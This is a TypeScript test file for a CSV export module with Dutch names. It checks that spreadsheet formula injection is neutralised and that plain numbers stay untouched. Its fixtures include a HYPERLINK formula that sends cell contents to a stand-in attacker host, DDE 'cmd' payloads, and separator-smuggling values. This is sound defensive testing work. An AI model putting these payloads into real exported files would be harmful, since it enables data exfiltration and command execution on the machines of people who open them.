import { parse } from 'csv-parse/sync';
import { lijktFormule, neutraliseerCel, schrijfCsv } from './csv-veilig';

// OWASP, CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection): no cell may begin
// with =, +, -, @, tab (0x09), CR (0x0D) or LF (0x0A); prepend a single quote, quote the field.
describe('csv-veilig: no exported cell starts a formula', () => {
  it.each([
    [
      '=HYPERLINK("https://aanvaller.example/?"&A1;"klik")',
      `'=HYPERLINK("https://aanvaller.example/?"&A1;"klik")`,
    ],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['@SUM(1+9)*cmd|x', "'@SUM(1+9)*cmd|x"],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', "'\r=1+2"],
    ['\n=1+2', "'\n=1+2"],
    ['-', "'-"],
  ])('neutralises %j', (invoer, uit) => {
    expect(neutraliseerCel(invoer)).toBe(uit);
  });

  it.each([
    'Utrecht',
    '',
    'a=b',
    "'al geciteerd",
    '"begint met aanhalingsteken',
    '–',
    '×',
    '30,5%',
    '1.234',
    'GM0344',
  ])('leaves %j alone', (v) => expect(neutraliseerCel(v)).toBe(v));

  it.each(['-0,05', '+3', '-12.345,5', '-2%', '-7', '12.5', '-1.5'])(
    'keeps the bare number %j a number',
    (v) => {
      expect(neutraliseerCel(v)).toBe(v);
    },
  );

  it('lijktFormule says which texts get the apostrophe (CSV) or the Text format (XLSX)', () => {
    expect(['=1+1', '-2+3+cmd|x', '@SUM(1)', '\t=1'].every(lijktFormule)).toBe(true);
    expect(['Utrecht', '-0,05', '+3', '', "'=1"].some(lijktFormule)).toBe(false);
  });

  it('CSV: BOM, `;`, CRLF; separators, quotes and line breaks inside a value are quoted so no new cell can start', () => {
    const csv = schrijfCsv([
      ['Titel', '=1+2";=1+2'],
      [],
      ['"begint met aanhalingsteken', 'a;=cmd|x', 'regel\nnieuwe', '-0,05', null],
    ]);
    const tekst = csv.toString('utf8');
    expect(tekst.startsWith('\uFEFF')).toBe(true);
    expect(tekst).toBe(
      '\uFEFFTitel;"\'=1+2"";=1+2"\r\n' +
        '\r\n' +
        '"""begint met aanhalingsteken";"a;=cmd|x";"regel\nnieuwe";-0,05;\r\n',
    );
    // read back by a real CSV parser: the same cells, none starting a formula
    const terug = parse(tekst.slice(1), {
      delimiter: ';',
      relax_column_count: true,
      skip_empty_lines: true,
    }) as string[][];
    expect(terug).toEqual([
      ['Titel', `'=1+2";=1+2`],
      ['"begint met aanhalingsteken', 'a;=cmd|x', 'regel\nnieuwe', '-0,05', ''],
    ]);
  });
});
